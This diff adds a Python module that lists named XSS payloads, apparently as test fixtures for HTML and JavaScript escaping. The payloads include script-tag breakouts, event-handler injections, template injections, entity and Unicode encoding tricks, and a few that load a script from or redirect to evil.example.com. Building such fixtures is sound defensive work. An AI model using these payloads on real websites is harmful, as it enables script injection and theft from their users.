@@ -1,0 +1,66 @@
+"""Texts that try to leave the element or string that they are written into, by name."""
+
+from typing import Final
+
+PAYLOADS: Final = {
+    # the end of a script element, in every spelling that the HTML standard accepts
+    "end": "</script>",
+    "end and script": "</script><script>alert(1)</script>",
+    "end and image": "</script><img src=x onerror=alert(1)>",
+    "upper case": "</SCRIPT>",
+    "mixed case": "</ScRiPt>",
+    "white space": "</script >",
+    "slash": "</script/>",
+    "attribute": "</script x=1>",
+    "unterminated": "</script",
+    "split": "</scr</script>ipt>",
+    "long s": "</\u017fcript>",
+    # the states of script data in which the end tag does not count (13.2.5.17 to 13.2.5.31)
+    "comment": "<!--",
+    "comment and script": "<!--<script>",
+    "comment, script and end": "<!--<script></script>",
+    "end of a comment": "-->",
+    "end of a comment with a bang": "--!>",
+    "script": "<script>",
+    "script with an attribute": "<script src=https://evil.example.com/>",
+    # what a decoder may make of it
+    "character references": "&lt;/script&gt;",
+    "numeric references": "&#60;/script&#62;",
+    "hexadecimal references": "&#x3c;/script&#x3e;",
+    "double references": "&amp;lt;/script&amp;gt;",
+    "JSON escape": "\\u003c/script\\u003e",
+    "escaped slash": "<\\/script>",
+    "backslash": "\\",
+    "backslash and quotation mark": '\\"',
+    "percent": "%3C/script%3E",
+    # line ends of JavaScript
+    "line separator": "a\u2028alert(1)",
+    "paragraph separator": "a\u2029alert(1)",
+    # strings, attributes and templates
+    "quotation mark": '"',
+    "attribute and handler": '" onmouseover="alert(1)',
+    "apostrophe and handler": "' onmouseover='alert(1)",
+    "end of JSON": '"}];alert(1)//',
+    "backtick": "`${alert(1)}`",
+    "template of Jinja": "{{ 7 * 7 }}{% raw %}",
+    "template of Angular": "{{constructor.constructor('alert(1)')()}}",
+    # other elements whose content is text
+    "end of a title": "</title><script>alert(1)</script>",
+    "end of a style": "</style><script>alert(1)</script>",
+    "end of a textarea": "</textarea><script>alert(1)</script>",
+    "end of a template": "</template><script>alert(1)</script>",
+    "end of a noscript": "</noscript><script>alert(1)</script>",
+    "end of the head": "</head><body onload=alert(1)>",
+    "plaintext": "<plaintext>",
+    "svg": "<svg onload=alert(1)>",
+    "svg style": "<svg><style><!--</style><img src=x onerror=alert(1)>",
+    "math": "<math><mtext><mglyph><style></math><img src=x onerror=alert(1)>",
+    "CDATA": "<![CDATA[",
+    "end of CDATA": "]]><script>alert(1)</script>",
+    "doctype": "<!DOCTYPE html><script>alert(1)</script>",
+    "processing instruction": "<?xml-stylesheet href='x'?>",
+    "base": "<base href=https://evil.example.com/>",
+    "refresh": "<meta http-equiv=refresh content=0;url=https://evil.example.com/>",
+    "byte order mark": "\ufeff</script>",
+    "bidirectional override": "\u202e</script>\u202c",
+}
